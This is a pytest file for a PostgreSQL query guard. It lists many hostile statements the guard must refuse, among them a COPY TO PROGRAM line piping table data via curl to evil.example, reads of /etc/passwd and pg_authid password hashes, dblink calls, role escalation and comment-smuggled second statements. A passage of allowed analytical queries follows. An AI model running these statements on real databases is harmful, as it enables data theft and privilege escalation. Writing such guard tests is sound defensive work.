"""The SQL guard: hostile statements are refused with an exact reason, analytical ones pass."""
from __future__ import annotations

import pytest

from app.sql.guard import AccessPolicy, CheckedStatement, SqlRefused, check_sql

SHOP = AccessPolicy(
    allowed_tables=frozenset({
        ("public", "customers"), ("public", "products"), ("public", "orders"),
        ("public", "order_items"), ("analytics", "order_metrics"),
    }),
)


def refused(sql: str, policy: AccessPolicy = SHOP) -> SqlRefused:
    with pytest.raises(SqlRefused) as caught:
        check_sql(sql, policy)
    return caught.value


def case(id_: str, sql: str, reason: str):
    return pytest.param(sql, reason, id=id_)


def op(kind: str) -> str:
    return f"Operation not allowed: {kind}"


def fn(name: str) -> str:
    return f"Function not allowed: {name}"


def table(name: str) -> str:
    return f"Table not allowed: {name}"


def syntax(node: str) -> str:
    return f"Syntax not allowed: {node}"


STATEMENT_COUNT = [
    case("empty", "", "No SQL statement given"),
    case("only-comment", "  -- just a comment\n", "No SQL statement given"),
    case("two-statements", "SELECT 1; DROP TABLE orders", "Only one statement is allowed"),
    case("line-comment-hides-nothing", "SELECT 1 -- \n; DROP TABLE orders",
         "Only one statement is allowed"),
    case("block-comment-closed-early", "SELECT 1 /* */ ; DELETE FROM orders",
         "Only one statement is allowed"),
    case("dollar-quote-closed-early", "SELECT $a$ $$ $a$; DROP TABLE orders",
         "Only one statement is allowed"),
    case("two-selects", "SELECT * FROM orders; SELECT * FROM customers",
         "Only one statement is allowed"),
]

PARSE = [
    case("nul-hides-second-statement", "SELECT 1\x00; DROP TABLE orders",
         "Could not parse SQL: NUL character in statement"),
    case("truncated", "SELECT * FROM", "Could not parse SQL: syntax error at end of input"),
    case("typo", "SELEC 1", 'Could not parse SQL: syntax error at or near "SELEC", at index 0'),
    case("unterminated-dollar-quote", "SELECT $$ ; DROP TABLE orders",
         'Could not parse SQL: unterminated dollar-quoted string at or near '
         '"$$ ; DROP TABLE orders", at index 7'),
]

OPERATIONS = [
    case("drop", "DROP TABLE orders", op("DROP")),
    case("drop-owned", "DROP OWNED BY authenticator", op("DROP")),
    case("create-table", "CREATE TABLE t (id int)", op("CREATE")),
    case("create-temp-table-as", "CREATE TEMP TABLE t AS SELECT * FROM orders", op("CREATE")),
    case("create-view", "CREATE VIEW v AS SELECT * FROM orders", op("CREATE")),
    case("create-function", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
         op("CREATE")),
    case("create-extension", "CREATE EXTENSION dblink", op("CREATE")),
    case("create-index", "CREATE INDEX ON orders (id)", op("CREATE")),
    case("alter-table", "ALTER TABLE orders ADD COLUMN x int", op("ALTER")),
    case("alter-role", "ALTER ROLE authenticator SUPERUSER", op("ALTER")),
    case("alter-system", "ALTER SYSTEM SET statement_timeout = 0", op("ALTER")),
    case("grant", "GRANT SELECT ON orders TO PUBLIC", op("GRANT")),
    case("revoke", "REVOKE SELECT ON orders FROM PUBLIC", op("REVOKE")),
    case("truncate", "TRUNCATE orders", op("TRUNCATE")),
    case("comment", "COMMENT ON TABLE orders IS 'x'", op("COMMENT")),
    case("set-role", "SET ROLE postgres", op("SET")),
    case("set-session-authorization", "SET SESSION AUTHORIZATION postgres", op("SET")),
    case("set-timeout", "SET statement_timeout = 0", op("SET")),
    case("set-local-row-security", "SET LOCAL row_security = off", op("SET")),
    case("reset-all", "RESET ALL", op("RESET")),
    case("reset-role", "RESET ROLE", op("RESET")),
    case("show", "SHOW search_path", op("SHOW")),
    case("begin", "BEGIN", op("BEGIN")),
    case("start-transaction", "START TRANSACTION READ WRITE", op("START TRANSACTION")),
    case("commit", "COMMIT", op("COMMIT")),
    case("end", "END", op("COMMIT")),
    case("rollback", "ROLLBACK", op("ROLLBACK")),
    case("savepoint", "SAVEPOINT s", op("SAVEPOINT")),
    case("do", "DO $$ BEGIN PERFORM pg_sleep(10); END $$", op("DO")),
    case("call", "CALL do_things()", op("CALL")),
    case("copy-to-stdout", "COPY orders TO STDOUT", op("COPY")),
    case("copy-to-program", "COPY (SELECT * FROM orders) TO PROGRAM 'curl -d @- evil.example'",
         op("COPY")),
    case("explain-analyze-delete", "EXPLAIN ANALYZE DELETE FROM orders", op("EXPLAIN")),
    case("listen", "LISTEN ch", op("LISTEN")),
    case("notify", "NOTIFY ch, 'x'", op("NOTIFY")),
    case("unlisten", "UNLISTEN *", op("UNLISTEN")),
    case("prepare", "PREPARE q AS SELECT 1", op("PREPARE")),
    case("execute", "EXECUTE q", op("EXECUTE")),
    case("deallocate", "DEALLOCATE ALL", op("DEALLOCATE")),
    case("lock", "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", op("LOCK")),
    case("vacuum", "VACUUM orders", op("VACUUM")),
    case("analyze", "ANALYZE orders", op("ANALYZE")),
    case("merge", "MERGE INTO orders o USING customers c ON o.customer_id = c.id "
                  "WHEN MATCHED THEN DELETE", op("MERGE")),
    case("discard-all", "DISCARD ALL", op("DISCARD")),
    case("checkpoint", "CHECKPOINT", op("CHECKPOINT")),
    case("load", "LOAD 'auto_explain'", op("LOAD")),
    case("security-label", "SECURITY LABEL ON TABLE orders IS 'x'", op("SECURITY LABEL")),
    case("import-foreign-schema", "IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public",
         op("IMPORT FOREIGN SCHEMA")),
    case("refresh-matview", "REFRESH MATERIALIZED VIEW mv", op("REFRESH MATERIALIZED VIEW")),
    case("cluster", "CLUSTER orders", op("CLUSTER")),
    case("reindex", "REINDEX TABLE orders", op("REINDEX")),
    case("declare-cursor", "DECLARE c CURSOR FOR SELECT * FROM orders", op("DECLARE")),
    case("fetch", "FETCH ALL FROM c", op("FETCH")),
    case("close", "CLOSE c", op("CLOSE")),
    case("insert-under-select-policy", "INSERT INTO orders (id) VALUES (1)", op("INSERT")),
    case("update-under-select-policy", "UPDATE orders SET total = 0", op("UPDATE")),
    case("delete-under-select-policy", "DELETE FROM orders", op("DELETE")),
    case("cte-delete", "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", op("DELETE")),
    case("cte-update", "WITH u AS (UPDATE orders SET total = 0 RETURNING id) "
                       "SELECT count(*) FROM u", op("UPDATE")),
    case("cte-insert", "WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) "
                       "SELECT * FROM i", op("INSERT")),
    case("cte-delete-in-subquery", "SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) "
                                   "SELECT * FROM d) s", op("DELETE")),
    case("select-into", "SELECT * INTO stolen FROM orders", op("SELECT INTO")),
    case("select-into-after-cte", "WITH c AS (SELECT 1) SELECT * INTO t FROM c",
         op("SELECT INTO")),
]

LOCKING = [
    case("for-update", "SELECT * FROM orders FOR UPDATE",
         "Locking clause not allowed: FOR UPDATE"),
    case("for-share", "SELECT * FROM orders FOR SHARE", "Locking clause not allowed: FOR SHARE"),
    case("for-no-key-update", "SELECT * FROM orders FOR NO KEY UPDATE",
         "Locking clause not allowed: FOR NO KEY UPDATE"),
    case("for-key-share", "SELECT * FROM orders FOR KEY SHARE",
         "Locking clause not allowed: FOR KEY SHARE"),
    case("for-update-in-subquery", "SELECT * FROM (SELECT * FROM orders FOR UPDATE) s",
         "Locking clause not allowed: FOR UPDATE"),
    case("for-update-skip-locked-in-cte",
         "WITH l AS (SELECT id FROM orders FOR UPDATE SKIP LOCKED) SELECT * FROM l",
         "Locking clause not allowed: FOR UPDATE"),
]

FORBIDDEN_FUNCTIONS = [
    ("set_config", "set_config('role', 'postgres', false)"),
    ("current_setting", "current_setting('is_superuser')"),
    ("pg_sleep", "pg_sleep(10)"),
    ("pg_sleep_for", "pg_sleep_for('10 seconds')"),
    ("pg_sleep_until", "pg_sleep_until('tomorrow')"),
    ("pg_read_file", "pg_read_file('/etc/passwd')"),
    ("pg_read_binary_file", "pg_read_binary_file('/etc/passwd')"),
    ("pg_ls_dir", "pg_ls_dir('.')"),
    ("pg_stat_file", "pg_stat_file('postgresql.conf')"),
    ("lo_import", "lo_import('/etc/passwd')"),
    ("lo_export", "lo_export(1, '/tmp/x')"),
    ("lo_get", "lo_get(1)"),
    ("dblink", "dblink('host=evil', 'SELECT 1')"),
    ("dblink_exec", "dblink_exec('dbname=app', 'DROP TABLE orders')"),
    ("query_to_xml", "query_to_xml('SELECT * FROM pg_authid', true, true, '')"),
    ("table_to_xml", "table_to_xml('pg_authid', true, true, '')"),
    ("database_to_xml", "database_to_xml(true, true, '')"),
    ("schema_to_xml", "schema_to_xml('pg_catalog', true, true, '')"),
    ("cursor_to_xml", "cursor_to_xml('c', 1, true, true, '')"),
    ("pg_terminate_backend", "pg_terminate_backend(1)"),
    ("pg_cancel_backend", "pg_cancel_backend(1)"),
    ("nextval", "nextval('orders_id_seq')"),
    ("setval", "setval('orders_id_seq', 1)"),
    ("currval", "currval('orders_id_seq')"),
    ("pg_advisory_lock", "pg_advisory_lock(1)"),
    ("pg_advisory_lock_shared", "pg_advisory_lock_shared(1)"),
    ("pg_advisory_xact_lock", "pg_advisory_xact_lock(1)"),
    ("pg_advisory_unlock_all", "pg_advisory_unlock_all()"),
    ("pg_try_advisory_lock", "pg_try_advisory_lock(1)"),
    ("pg_try_advisory_xact_lock", "pg_try_advisory_xact_lock(1)"),
    ("pg_notify", "pg_notify('ch', 'x')"),
    ("pg_reload_conf", "pg_reload_conf()"),
    ("txid_current", "txid_current()"),
    ("version", "version()"),
    ("has_table_privilege", "has_table_privilege('pg_authid', 'SELECT')"),
    ("current_database", "current_database()"),
    ("to_regclass", "to_regclass('pg_authid')"),
    ("pg_catalog-qualified", "pg_catalog.pg_sleep(1)"),
    ("other-schema", "public.lower('A')"),
    ("quoted-upper-case", '"PG_SLEEP"(1)'),
]
FORBIDDEN_FUNCTION_REASONS = {
    "pg_catalog-qualified": "pg_sleep", "other-schema": "public.lower",
    "quoted-upper-case": "PG_SLEEP",
}

FUNCTIONS = [
    case(f"call-{name}", f"SELECT {call}", fn(FORBIDDEN_FUNCTION_REASONS.get(name, name)))
    for name, call in FORBIDDEN_FUNCTIONS
] + [
    case("current_user", "SELECT current_user", fn("current_user")),
    case("session_user", "SELECT session_user", fn("session_user")),
    case("current_role", "SELECT current_role", fn("current_role")),
    case("user", "SELECT user", fn("user")),
    case("current_schema", "SELECT current_schema", fn("current_schema")),
    case("current_catalog", "SELECT current_catalog", fn("current_catalog")),
    case("system_user", "SELECT system_user", fn("system_user")),
    case("in-where-subquery", "SELECT id FROM orders WHERE total > "
         "(SELECT count(*) FROM customers WHERE pg_sleep(1) IS NULL)", fn("pg_sleep")),
    case("in-cte", "WITH s AS (SELECT current_setting('role') AS r) SELECT r FROM s",
         fn("current_setting")),
    case("in-recursive-cte", "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL "
         "SELECT n + 1 FROM t WHERE pg_sleep(1) IS NULL) SELECT * FROM t", fn("pg_sleep")),
    case("in-window-order", "SELECT lag(total) OVER (ORDER BY pg_sleep(1)) FROM orders",
         fn("pg_sleep")),
    case("in-named-window", "SELECT rank() OVER w FROM orders "
         "WINDOW w AS (PARTITION BY set_config('a.b', 'c', false))", fn("set_config")),
    case("in-order-by", "SELECT id FROM orders ORDER BY pg_sleep(1)", fn("pg_sleep")),
    case("in-lateral", "SELECT * FROM orders o, LATERAL (SELECT pg_read_file('/etc/passwd')) f",
         fn("pg_read_file")),
    case("in-values", "SELECT * FROM (VALUES (1, version())) v(a, b)", fn("version")),
    case("as-table-function", "SELECT * FROM pg_ls_dir('.')", fn("pg_ls_dir")),
    case("in-rows-from", "SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('.'))",
         fn("pg_ls_dir")),
    case("in-having", "SELECT customer_id FROM orders GROUP BY customer_id "
         "HAVING count(*) > txid_current()", fn("txid_current")),
    case("in-filter", "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders",
         fn("pg_sleep")),
    case("in-group-by", "SELECT 1 FROM orders GROUP BY current_setting('role')",
         fn("current_setting")),
    case("in-limit", "SELECT * FROM orders LIMIT nextval('s')", fn("nextval")),
    case("in-case", "SELECT CASE WHEN total > 0 THEN pg_notify('c', 'x') END FROM orders",
         fn("pg_notify")),
    case("in-join-on", "SELECT * FROM orders o JOIN customers c "
         "ON c.id = o.customer_id AND pg_sleep(1) IS NOT NULL", fn("pg_sleep")),
    case("in-distinct-on", "SELECT DISTINCT ON (pg_backend_pid()) id FROM orders",
         fn("pg_backend_pid")),
    case("in-union-branch", "SELECT 1 UNION SELECT dblink_exec('x', 'y')::int", fn("dblink_exec")),
    case("in-aggregate-argument", "SELECT string_agg(query_to_xml('SELECT 1', true, true, '')"
         "::text, ',') FROM orders", fn("query_to_xml")),
    case("in-exists", "SELECT 1 WHERE EXISTS (SELECT lo_import('/etc/passwd'))", fn("lo_import")),
    # Attribute notation: PostgreSQL reads `(x).f` and `alias.col.f` as f(x), no call in sight.
    case("field-on-scalar-function-alias", "SELECT g.pg_sleep FROM generate_series(1, 3) g",
         fn("pg_sleep")),
    case("field-on-column", "SELECT (total).current_setting FROM orders", fn("current_setting")),
    case("field-on-qualified-column", "SELECT o.total.pg_sleep FROM orders o", fn("pg_sleep")),
    case("field-runs-sql-text", "SELECT ('SELECT rolpassword FROM pg_authid'::text).ts_stat",
         fn("ts_stat")),
    case("field-as-catalog-cast", "SELECT ('pg_authid'::text).regclass", fn("regclass")),
    case("field-advisory-lock", "SELECT (1).pg_advisory_lock", fn("pg_advisory_lock")),
    case("field-large-object", "SELECT u.lo_get FROM unnest(ARRAY[1]::oid[]) u", fn("lo_get")),
    case("field-sequence", "SELECT ('orders_id_seq'::text).nextval", fn("nextval")),
]

TABLES = [
    case("pg_user", "SELECT * FROM pg_user", table("pg_user")),
    case("pg_authid", "SELECT rolpassword FROM pg_authid", table("pg_authid")),
    case("pg_shadow", "SELECT * FROM pg_shadow", table("pg_shadow")),
    case("pg_stat_activity", "SELECT query FROM pg_stat_activity", table("pg_stat_activity")),
    case("pg_roles", "SELECT * FROM pg_roles", table("pg_roles")),
    case("pg_catalog-qualified", "SELECT * FROM pg_catalog.pg_authid",
         table("pg_catalog.pg_authid")),
    case("pg_catalog-upper-case", "SELECT * FROM PG_CATALOG.PG_AUTHID",
         table("pg_catalog.pg_authid")),
    case("pg_catalog-quoted", 'SELECT * FROM "pg_catalog"."pg_authid"',
         table("pg_catalog.pg_authid")),
    case("information_schema-tables", "SELECT * FROM information_schema.tables",
         table("information_schema.tables")),
    case("information_schema-grants", "SELECT * FROM information_schema.role_table_grants",
         table("information_schema.role_table_grants")),
    case("unicode-escaped-table", 'SELECT * FROM U&"\\0070g_authid"', table("pg_authid")),
    case("unicode-escaped-schema", 'SELECT * FROM U&"\\0070g_catalog".pg_shadow',
         table("pg_catalog.pg_shadow")),
    case("unicode-uescape", "SELECT * FROM U&\"!0070g_authid\" UESCAPE '!'",
         table("pg_authid")),
    case("not-listed", "SELECT * FROM secrets", table("secrets")),
    case("not-listed-qualified", "SELECT * FROM public.secrets", table("public.secrets")),
    case("listed-schema-other-table", "SELECT * FROM analytics.raw_events",
         table("analytics.raw_events")),
    case("unqualified-resolves-to-public", "SELECT * FROM order_metrics", table("order_metrics")),
    case("quoted-case-differs", 'SELECT * FROM "Orders"', table('"Orders"')),
    case("catalog-qualified", "SELECT * FROM app.public.orders", table("app.public.orders")),
    case("pg_temp", "SELECT * FROM pg_temp.orders", table("pg_temp.orders")),
    case("in-join", "SELECT * FROM orders o JOIN pg_roles r ON true", table("pg_roles")),
    case("in-exists", "SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM pg_shadow)",
         table("pg_shadow")),
    case("in-scalar-subquery", "SELECT (SELECT passwd FROM pg_shadow LIMIT 1)",
         table("pg_shadow")),
    case("in-lateral", "SELECT * FROM orders, LATERAL (SELECT * FROM pg_user) u",
         table("pg_user")),
    case("in-union", "SELECT id::text FROM orders UNION SELECT usename FROM pg_user",
         table("pg_user")),
    case("in-cte-body", "WITH u AS (SELECT * FROM pg_authid) SELECT * FROM u",
         table("pg_authid")),
    case("table-form", "TABLE pg_authid", table("pg_authid")),
    case("comment-then-table", "SELECT 1 -- harmless\nFROM pg_authid", table("pg_authid")),
    case("tablesample", "SELECT * FROM pg_authid TABLESAMPLE SYSTEM (50)", table("pg_authid")),
    case("in-where-in-subquery", "SELECT * FROM orders WHERE id IN "
         "(SELECT oid::int FROM pg_class)", table("pg_class")),
    # CTE scope: a name is a CTE only where its WITH is in scope.
    case("cte-shadow-in-sibling-subquery",
         "SELECT * FROM (WITH pg_authid AS (SELECT 1 AS x) SELECT * FROM pg_authid) a, "
         "(SELECT * FROM pg_authid) b", table("pg_authid")),
    case("cte-shadow-in-sibling-scalar",
         "SELECT (WITH pg_shadow AS (SELECT 1) SELECT 1), (SELECT count(*) FROM pg_shadow)",
         table("pg_shadow")),
    case("cte-shadow-in-other-union-branch",
         "(WITH pg_roles AS (SELECT 1) SELECT * FROM pg_roles) UNION ALL SELECT 1 FROM pg_roles",
         table("pg_roles")),
    case("cte-self-reference-not-recursive",
         "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", table("secrets")),
    case("cte-forward-reference-not-recursive",
         "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", table("b")),
    case("cte-name-schema-qualified",
         "WITH orders_cte AS (SELECT 1) SELECT * FROM public.orders_cte",
         table("public.orders_cte")),
    case("recursive-cte-scope-ends-with-its-subquery",
         "SELECT * FROM (WITH RECURSIVE pg_user AS (SELECT 1) SELECT * FROM pg_user) a "
         "JOIN pg_user ON true", table("pg_user")),
    case("cte-in-exists-does-not-cover-outer-from",
         "SELECT * FROM pg_shadow WHERE EXISTS (WITH pg_shadow AS (SELECT 1) "
         "SELECT * FROM pg_shadow)", table("pg_shadow")),
    case("cte-named-like-catalog-plus-real-catalog",
         "WITH pg_authid AS (SELECT 1) SELECT * FROM pg_authid, pg_catalog.pg_authid",
         table("pg_catalog.pg_authid")),
]

TYPES_PARAMETERS_OPERATORS = [
    case("regclass-cast", "SELECT 'pg_authid'::regclass", "Type not allowed: regclass"),
    case("regclass-cast-function-syntax", "SELECT CAST('pg_authid' AS regclass)",
         "Type not allowed: regclass"),
    case("regclass-typed-literal", "SELECT regclass 'pg_authid'", "Type not allowed: regclass"),
    case("regclass-qualified", "SELECT 'pg_authid'::pg_catalog.regclass",
         "Type not allowed: regclass"),
    case("regclass-from-oid", "SELECT 1260::oid::regclass", "Type not allowed: regclass"),
    case("regrole", "SELECT 'postgres'::regrole", "Type not allowed: regrole"),
    case("regnamespace", "SELECT 'pg_catalog'::regnamespace", "Type not allowed: regnamespace"),
    case("regproc", "SELECT 'pg_sleep'::regproc", "Type not allowed: regproc"),
    case("regtype-array", "SELECT '{int4}'::regtype[]", "Type not allowed: regtype"),
    case("regclass-column-definition",
         "SELECT * FROM json_to_record('{\"a\": \"pg_authid\"}') AS t(a regclass)",
         "Type not allowed: regclass"),
    case("parameter", "SELECT * FROM orders WHERE id = $1", "Parameters are not allowed: $1"),
    case("qualified-operator", "SELECT 1 OPERATOR(evil.+) 1", "Operator not allowed: evil.+"),
    case("qualified-sort-operator", "SELECT id FROM orders ORDER BY id USING OPERATOR(evil.<)",
         "Operator not allowed: evil.<"),
]

# Syntax that evaluates functions without a FuncCall node, so the function allow-list never
# sees it: refused by node type, before anything inside it is looked at.
SYNTAX = [
    case("xmlelement-hiding-setting", "SELECT xmlelement(name x, current_setting('role'))",
         syntax("XmlExpr")),
    case("xmlelement", "SELECT xmlelement(name item, total) FROM orders", syntax("XmlExpr")),
    case("xmlparse", "SELECT xmlparse(document '<a/>')", syntax("XmlExpr")),
    case("is-document", "SELECT note IS DOCUMENT FROM orders", syntax("XmlExpr")),
    case("xmlserialize", "SELECT xmlserialize(content note AS text) FROM orders",
         syntax("XmlSerialize")),
    case("xmltable", "SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS x int PATH '.')",
         syntax("RangeTableFunc")),
    case("xmltable-lateral", "SELECT o.id, x.* FROM orders o, "
         "XMLTABLE('/a' PASSING o.note COLUMNS v text PATH '.') x", syntax("RangeTableFunc")),
    case("json-query", "SELECT JSON_QUERY(metadata, '$.address') FROM customers",
         syntax("JsonFuncExpr")),
    case("json-value", "SELECT JSON_VALUE(metadata, '$.vip') FROM customers",
         syntax("JsonFuncExpr")),
    case("json-value-default-calls", "SELECT JSON_VALUE(metadata, '$.x' "
         "DEFAULT pg_sleep(1)::text ON EMPTY) FROM customers", syntax("JsonFuncExpr")),
    case("json-exists", "SELECT JSON_EXISTS(metadata, '$.vip') FROM customers",
         syntax("JsonFuncExpr")),
    case("json-table", "SELECT * FROM customers c, JSON_TABLE(c.metadata, '$.tags[*]' "
         "COLUMNS (tag text PATH '$')) t", syntax("JsonTable")),
    case("json-object", "SELECT JSON_OBJECT('id': id) FROM orders",
         syntax("JsonObjectConstructor")),
    case("json-array", "SELECT JSON_ARRAY(id, total) FROM orders", syntax("JsonArrayConstructor")),
    case("json-parse", "SELECT JSON('{\"a\": 1}')", syntax("JsonParseExpr")),
    case("json-scalar", "SELECT JSON_SCALAR(total) FROM orders", syntax("JsonScalarExpr")),
    case("json-serialize", "SELECT JSON_SERIALIZE(metadata) FROM customers",
         syntax("JsonSerializeExpr")),
    case("json-objectagg", "SELECT JSON_OBJECTAGG(id: total) FROM orders",
         syntax("JsonObjectAgg")),
    case("json-arrayagg", "SELECT JSON_ARRAYAGG(total) FROM orders", syntax("JsonArrayAgg")),
    case("is-json", "SELECT note IS JSON FROM orders", syntax("JsonIsPredicate")),
    case("merge-action", "SELECT merge_action()", syntax("MergeSupportFunc")),
    case("xml-in-where-subquery", "SELECT id FROM orders WHERE id IN "
         "(SELECT 1 WHERE xmlparse(content 'x') IS NOT NULL)", syntax("XmlExpr")),
    case("tablesample-qualified-method", "SELECT * FROM orders TABLESAMPLE evil.sampler (10)",
         fn("evil.sampler")),
    case("tablesample-extension-method", "SELECT * FROM orders TABLESAMPLE system_time (1000)",
         fn("system_time")),
]

HOSTILE = STATEMENT_COUNT + PARSE + OPERATIONS + LOCKING + FUNCTIONS + TABLES \
    + TYPES_PARAMETERS_OPERATORS + SYNTAX


@pytest.mark.parametrize(("sql", "reason"), HOSTILE)
def test_hostile_statement_is_refused(sql: str, reason: str) -> None:
    assert refused(sql).reason == reason


def test_corpus_is_large() -> None:
    assert len(HOSTILE) >= 70
    assert len(LEGITIMATE) >= 25


@pytest.mark.parametrize(("sql", "category"), [
    ("", "statement_count"), ("SELECT 1; SELECT 2", "statement_count"), ("SELEC", "parse"),
    ("DROP TABLE orders", "operation"), ("SELECT * INTO t FROM orders", "operation"),
    ("SELECT * FROM orders FOR SHARE", "locking"), ("SELECT version()", "function"),
    ("SELECT current_user", "function"), ("SELECT * FROM pg_authid", "table"),
    ("SELECT 'x'::regclass", "type"), ("SELECT $1", "parameter"),
    ("SELECT 1 OPERATOR(evil.+) 1", "operator"), ("SELECT xmlelement(name x, 1)", "syntax"),
    ("SELECT * FROM orders TABLESAMPLE system_time (1)", "function"),
])
def test_refusal_category(sql: str, category: str) -> None:
    error = refused(sql)
    assert error.category == category
    assert str(error) == error.reason


def test_deeply_nested_expression_is_refused_not_crashed() -> None:
    sql = "SELECT " + " + ".join(["1"] * 5000)
    assert refused(sql).category in {"parse", "complexity"}


LEGITIMATE = [
    pytest.param("SELECT 1 /* ; DROP TABLE x */", id="comment-with-semicolon"),
    pytest.param("SELECT 1 /* nested /* comment */ ; DROP TABLE orders */",
                 id="nested-comment"),
    pytest.param("-- DROP TABLE orders; DELETE FROM customers\nSELECT count(*) FROM orders",
                 id="comment-with-keywords"),
    pytest.param("SELECT $$; DROP TABLE orders $$ AS s, 'DELETE FROM x; --' AS t",
                 id="dollar-and-plain-strings"),
    pytest.param("SELECT c.name, sum(o.total) AS revenue FROM customers c "
                 "JOIN orders o ON o.customer_id = c.id GROUP BY c.name "
                 "ORDER BY revenue DESC LIMIT 10", id="join-aggregate"),
    pytest.param("SELECT p.name, sum(oi.quantity * oi.unit_price) FROM order_items oi "
                 "JOIN products p ON p.id = oi.product_id "
                 "LEFT JOIN orders o USING (id) GROUP BY 1", id="three-way-join"),
    pytest.param("WITH monthly AS (SELECT date_trunc('month', created_at) AS m, sum(total) AS t "
                 "FROM orders GROUP BY 1) SELECT m, t, t - lag(t) OVER (ORDER BY m) FROM monthly",
                 id="cte-window-lag"),
    pytest.param("WITH RECURSIVE days(d) AS (SELECT date '2024-01-01' UNION ALL "
                 "SELECT d + 1 FROM days WHERE d < date '2024-01-31') SELECT d FROM days",
                 id="recursive-cte"),
    pytest.param("WITH orders AS (SELECT * FROM public.orders WHERE total > 100) "
                 "SELECT count(*) FROM orders", id="cte-shadowing-allowed-table"),
    pytest.param("WITH a AS (SELECT id FROM customers), b AS (SELECT * FROM a) "
                 "SELECT * FROM b", id="cte-sees-earlier-cte"),
    pytest.param("SELECT id, row_number() OVER w, rank() OVER w, dense_rank() OVER w, "
                 "ntile(4) OVER w, first_value(total) OVER w, "
                 "percent_rank() OVER w FROM orders WINDOW w AS (PARTITION BY customer_id "
                 "ORDER BY created_at)", id="window-functions"),
    pytest.param("SELECT metadata->'address'->>'city' AS city, count(*) FROM customers "
                 "WHERE metadata @> '{\"vip\": true}' GROUP BY 1", id="json-operators"),
    pytest.param("SELECT * FROM customers WHERE name ILIKE '%smith%' OR email ~* '@example'",
                 id="ilike-regex"),
    pytest.param("SELECT c.id, recent.* FROM customers c CROSS JOIN LATERAL "
                 "(SELECT id, total FROM orders o WHERE o.customer_id = c.id "
                 "ORDER BY created_at DESC LIMIT 3) recent", id="lateral"),
    pytest.param("SELECT DISTINCT ON (customer_id) customer_id, id, total FROM orders "
                 "ORDER BY customer_id, created_at DESC", id="distinct-on"),
    pytest.param("SELECT status, extract(year FROM created_at) AS y, sum(total) FROM orders "
                 "GROUP BY GROUPING SETS ((status), (y), ())", id="grouping-sets"),
    pytest.param("SELECT status, customer_id, sum(total), grouping(status) FROM orders "
                 "GROUP BY ROLLUP (status, customer_id)", id="rollup"),
    pytest.param("SELECT count(*) FILTER (WHERE status = 'paid') AS paid, "
                 "avg(total) FILTER (WHERE total > 0) FROM orders", id="filter-clause"),
    pytest.param("SELECT id, CASE WHEN total > 1000 THEN 'large' WHEN total > 100 THEN 'medium' "
                 "ELSE 'small' END, COALESCE(note, ''), NULLIF(total, 0), "
                 "GREATEST(total, 0), LEAST(total, 10) FROM orders", id="case-coalesce"),
    pytest.param("SELECT EXTRACT(DOW FROM created_at), date_part('hour', created_at), "
                 "to_char(created_at, 'YYYY-MM'), created_at AT TIME ZONE 'UTC' FROM orders",
                 id="extract-and-dates"),
    pytest.param('SELECT "o"."id" FROM "public"."orders" AS "o"', id="quoted-identifiers"),
    pytest.param("SELECT * FROM analytics.order_metrics m JOIN public.orders o "
                 "ON o.id = m.order_id", id="schema-qualified"),
    pytest.param("TABLE orders", id="table-form"),
    pytest.param("SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS v(id, label)", id="values-list"),
    pytest.param("VALUES (1), (2)", id="bare-values"),
    pytest.param("SELECT customer_id FROM orders UNION SELECT id FROM customers "
                 "INTERSECT SELECT customer_id FROM orders EXCEPT SELECT 0", id="set-operations"),
    pytest.param("SELECT id, embedding <=> '[1,2,3]' AS cos, embedding <-> '[1,2,3]' AS l2, "
                 "embedding <#> '[1,2,3]' AS ip, cosine_distance(embedding, '[1,2,3]') "
                 "FROM products ORDER BY embedding <=> '[1,2,3]'::vector LIMIT 5",
                 id="pgvector"),
    pytest.param("SELECT * FROM orders WHERE created_at > now() - interval '7 days' "
                 "AND created_at < current_timestamp AND created_at::date <= current_date",
                 id="now-minus-interval"),
    pytest.param("SELECT d::date, count(o.id) FROM generate_series(now() - interval '30 days', "
                 "now(), interval '1 day') AS d LEFT JOIN orders o "
                 "ON date_trunc('day', o.created_at) = d GROUP BY 1", id="generate-series"),
    pytest.param("SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total), "
                 "mode() WITHIN GROUP (ORDER BY status), stddev(total), "
                 "string_agg(DISTINCT status, ', ' ORDER BY status) FROM orders",
                 id="ordered-set-aggregates"),
    pytest.param("SELECT jsonb_build_object('id', id, 'items', jsonb_agg(oi.product_id)) "
                 "FROM orders o JOIN order_items oi ON oi.order_id = o.id GROUP BY o.id",
                 id="json-building"),
    pytest.param("SELECT c.id, t.key, t.value FROM customers c, "
                 "jsonb_each_text(c.metadata) AS t", id="json-table-function"),
    pytest.param("SELECT lower(name), upper(substring(name FROM 1 FOR 3)), "
                 "trim(both ' ' FROM name), position('a' IN name), split_part(email, '@', 2) "
                 "FROM customers", id="string-functions"),
    pytest.param("SELECT pg_catalog.count(*), round(avg(total)::numeric, 2) FROM orders",
                 id="pg_catalog-qualified-function"),
    pytest.param("SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers "
                 "WHERE EXISTS (SELECT 1 FROM order_items oi WHERE oi.order_id = orders.id))",
                 id="nested-subqueries"),
    pytest.param("SELECT unnest(tags) AS tag, count(*) FROM products GROUP BY 1 "
                 "HAVING count(*) > 2", id="unnest-having"),
    pytest.param("SELECT * FROM orders ORDER BY total DESC NULLS LAST LIMIT 5 OFFSET 5;",
                 id="trailing-semicolon"),
    pytest.param("SELECT date(created_at), count(*) FROM orders GROUP BY date(created_at)",
                 id="date-function-cast"),
    pytest.param("SELECT (jsonb_each(metadata)).key, (jsonb_each(metadata)).value "
                 "FROM customers", id="record-field-selection"),
    pytest.param("SELECT p.version, public.orders.id FROM products p, public.orders",
                 id="column-named-like-function"),
    pytest.param("SELECT total OPERATOR(pg_catalog.*) 2 FROM orders", id="pg_catalog-operator"),
    pytest.param("SELECT (tags)[1], (o).* FROM products, orders o", id="subscript-and-star"),
